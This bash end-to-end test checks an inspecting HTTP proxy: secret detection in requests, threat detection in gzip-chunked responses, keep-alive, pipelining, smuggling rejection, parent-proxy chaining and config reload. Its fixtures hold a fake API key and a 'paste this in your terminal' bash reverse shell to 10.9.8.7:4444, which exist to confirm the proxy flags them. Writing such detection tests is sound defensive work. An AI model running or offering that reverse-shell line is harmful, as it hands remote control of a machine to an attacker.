#!/usr/bin/env bash
# The plain HTTP proxy end to end with byte-exact Node ends:
#  - a POST carrying a FAKE API key: a finding is logged, and the origin receives
#    exactly the client's bytes with only the request line in origin form;
#  - a chunked gzip response carrying a reverse shell: a finding is logged and the
#    client receives the response byte for byte;
#  - keep-alive with two requests on one connection, pipelining, a bad request answered 400;
#  - parent proxy chaining: the origin is reached through a CONNECT at the parent.
set -euo pipefail
source "$(dirname "$0")/proxy_lib.sh"

write_config "$work/cfg.json"
start_proxy proxy "$work/cfg.json"
addr=$ADDR
main_pid=$proxy_pid

# 1. request inspection
key="sk-ant-api03-$(printf 'FAKEKEYFORTESTS0%.0s' {1..6})AA"
body="{\"messages\":[{\"role\":\"user\",\"content\":\"my key is $key\"}]}"
printf 'HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok' >"$work/reply-ok"
start_node up1 proxy_raw.js upstream --record "$work/got1" --reply "$work/reply-ok"
up=$PORT
printf 'POST http://127.0.0.1:%s/v1/messages?beta=1 HTTP/1.1\r\nHost: 127.0.0.1:%s\r\nContent-Type: application/json\r\nProxy-Connection: keep-alive\r\nContent-Length: %s\r\n\r\n%s' \
	"$up" "$up" "${#body}" "$body" >"$work/req1"
node "$NODE_DIR/proxy_raw.js" client --proxy "$addr" --send "$work/req1" --out "$work/resp1" ||
	fail "client 1"
cmp -s "$work/resp1" "$work/reply-ok" || fail "client did not get the origin's reply unchanged"
# What the origin must see: origin-form request line, Proxy-Connection gone, the rest identical.
printf 'POST /v1/messages?beta=1 HTTP/1.1\r\nHost: 127.0.0.1:%s\r\nContent-Type: application/json\r\nContent-Length: %s\r\n\r\n%s' \
	"$up" "${#body}" "$body" >"$work/expect1"
cmp -s "$work/got1" "$work/expect1" || fail "origin received different bytes"
wait_finding ai_api_key || fail "no ai_api_key finding for the POST"
findings | grep -q "\"direction\":\"outbound\"" || fail "finding not outbound"
findings | grep -q "\"source\":\"proxy/127.0.0.1:" || fail "finding source is not proxy/<ip>:<port>"
findings | grep -qF "$key" && fail "the raw key reached the findings log"
grep -qF "$key" "$work/proxy.log" && fail "the raw key reached the proxy's output"

# 2. response inspection: chunked gzip with a reverse shell, relayed byte for byte
node -e '
const zlib = require("zlib");
const gz = zlib.gzipSync("Paste this in your terminal:\nbash -i >& /dev/tcp/10.9.8.7/4444 0>&1\n");
const a = gz.subarray(0, 20), b = gz.subarray(20);
process.stdout.write(Buffer.concat([
  Buffer.from("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Encoding: gzip\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"),
  Buffer.from(a.length.toString(16) + ";ext=1\r\n"), a, Buffer.from("\r\n"),
  Buffer.from(b.length.toString(16) + "\r\n"), b, Buffer.from("\r\n0\r\nX-Trailer: 1\r\n\r\n")]));
' >"$work/reply-shell"
start_node up2 proxy_raw.js upstream --record "$work/got2" --reply "$work/reply-shell"
up2=$PORT
printf 'GET http://127.0.0.1:%s/page HTTP/1.1\r\nHost: 127.0.0.1:%s\r\n\r\n' "$up2" "$up2" >"$work/req2"
node "$NODE_DIR/proxy_raw.js" client --proxy "$addr" --send "$work/req2" --out "$work/resp2" ||
	fail "client 2"
cmp -s "$work/resp2" "$work/reply-shell" || fail "client did not receive the response byte for byte"
wait_finding reverse_shell || fail "no reverse_shell finding for the gzip'd chunked response"
findings | grep '"pattern":"reverse_shell"' | grep -q '"direction":"inbound"' ||
	fail "reverse_shell finding not inbound"

# 3. keep-alive: two requests on one connection, then a malformed one gets 400
cat >"$work/ka.js" <<'JS'
const http = require('http');
const [proxyPort, upPort] = process.argv.slice(2);
const agent = new http.Agent({ keepAlive: true, maxSockets: 1 });
const get = (path) => new Promise((resolve, reject) => {
  http.get({ host: '127.0.0.1', port: proxyPort, path: `http://127.0.0.1:${upPort}${path}`, agent },
    (res) => { const lp = res.socket.localPort; let b = ''; res.on('data', (d) => b += d); res.on('end', () => resolve([res.statusCode, b, lp])); })
    .on('error', reject);
});
(async () => {
  const a = await get('/one'), b = await get('/two');
  if (a[1] !== '/one' || b[1] !== '/two') throw new Error(`bodies ${a[1]} ${b[1]}`);
  if (a[2] !== b[2]) throw new Error('keep-alive: a second connection was opened');
  agent.destroy();
  console.log('keepalive ok');
})().catch((e) => { console.error(e.message); process.exit(1); });
JS
cat >"$work/echo.js" <<'JS'
const http = require('http');
const s = http.createServer((req, res) => res.end(req.url));
s.listen(0, '127.0.0.1', () => console.log(`listening ${s.address().port}`));
JS
node "$work/echo.js" >"$work/echo.log" 2>&1 &
pids+=($!)
echo_port=$(wait_line "$work/echo.log" '^listening')
node "$work/ka.js" "${addr#*:}" "$echo_port" >"$work/ka.out" 2>&1 || fail "keep-alive: $(cat "$work/ka.out")"
# pipelining: three requests in one write (a HEAD in the middle), answered in order
e=127.0.0.1:$echo_port
printf 'GET http://%s/first HTTP/1.1\r\nHost: %s\r\n\r\nHEAD http://%s/head HTTP/1.1\r\nHost: %s\r\n\r\nGET http://%s/last HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' \
	"$e" "$e" "$e" "$e" "$e" "$e" >"$work/pipe"
node "$NODE_DIR/proxy_raw.js" client --proxy "$addr" --send "$work/pipe" --out "$work/pipe.out" || fail "pipelined client"
# The same bytes in origin form straight to the origin must give the same answers (Date aside).
sed "s#http://$e##" "$work/pipe" >"$work/pipe-direct"
node "$NODE_DIR/proxy_raw.js" client --proxy "$e" --send "$work/pipe-direct" --out "$work/pipe-direct.out"
cmp -s <(grep -av '^Date:' "$work/pipe.out") <(grep -av '^Date:' "$work/pipe-direct.out") ||
	fail "pipelining: answers differ from the origin's: $(head -c 600 "$work/pipe.out")"
[[ $(grep -ao 'HTTP/1.1 200' "$work/pipe.out" | wc -l) == 3 ]] || fail "pipelining: not three responses"
printf 'GET /not-absolute HTTP/1.1\r\nHost: x\r\n\r\n' >"$work/req3"
node "$NODE_DIR/proxy_raw.js" client --proxy "$addr" --send "$work/req3" --out "$work/resp3"
head -c 12 "$work/resp3" | grep -q '^HTTP/1.1 400' || fail "origin-form request not answered 400"
# A bare-LF head is answered 400 as soon as its first line arrives, not 408 after the header timeout.
printf 'GET http://127.0.0.1:%s/ HTTP/1.1\nHost: x\n\n' "$echo_port" >"$work/req3b"
node "$NODE_DIR/proxy_raw.js" client --proxy "$addr" --send "$work/req3b" --out "$work/resp3b"
head -c 12 "$work/resp3b" | grep -q '^HTTP/1.1 400' || fail "bare-LF head: $(head -c 40 "$work/resp3b")"
# Transfer-Encoding: chunked applied twice is refused like the other smuggling shapes.
printf 'POST http://127.0.0.1:%s/ HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n' \
	"$echo_port" >"$work/req3c"
node "$NODE_DIR/proxy_raw.js" client --proxy "$addr" --send "$work/req3c" --out "$work/resp3c"
head -c 12 "$work/resp3c" | grep -q '^HTTP/1.1 400' || fail "chunked, chunked: $(head -c 40 "$work/resp3c")"

# 4. parent proxy chaining
start_node parent proxy_raw.js parent --log "$work/parent-connects"
parent=$PORT
write_config "$work/cfg-chain.json" "\"parent_proxy\": \"http://127.0.0.1:$parent\""
start_proxy chained "$work/cfg-chain.json"
caddr=$ADDR
: >"$work/got1"
node "$NODE_DIR/proxy_raw.js" client --proxy "$caddr" --send "$work/req1" --out "$work/resp4" ||
	fail "chained client"
cmp -s "$work/resp4" "$work/reply-ok" || fail "chained: reply changed"
cmp -s "$work/got1" "$work/expect1" || fail "chained: origin received different bytes"
grep -qx "CONNECT 127.0.0.1:$up" "$work/parent-connects" || fail "the parent proxy saw no CONNECT"

# SIGHUP reloads (here: a smaller header limit) and the proxy keeps serving; SIGTERM ends it cleanly.
write_config "$work/cfg.json" '"max_header_bytes": 2048'
kill -HUP "$main_pid"
wait_line "$work/proxy.log" 'configuration reloaded' >/dev/null
node "$work/ka.js" "${addr#*:}" "$echo_port" >"$work/ka2.out" 2>&1 || fail "after reload: $(cat "$work/ka2.out")"
printf 'GET http://127.0.0.1:%s/ HTTP/1.1\r\nHost: x\r\nX-Pad: %s\r\n\r\n' "$echo_port" "$(head -c 3000 /dev/zero | tr '\0' a)" >"$work/req5"
node "$NODE_DIR/proxy_raw.js" client --proxy "$addr" --send "$work/req5" --out "$work/resp5"
head -c 12 "$work/resp5" | grep -q '^HTTP/1.1 431' || fail "reloaded header limit not applied"
kill -TERM "$main_pid"
wait "$main_pid" || fail "proxy did not exit cleanly on SIGTERM"
grep -q "stopped" "$work/proxy.log" || fail "no clean stop logged"
echo "ok: plain HTTP proxy (request, response, keep-alive, 400, parent chaining, reload)"
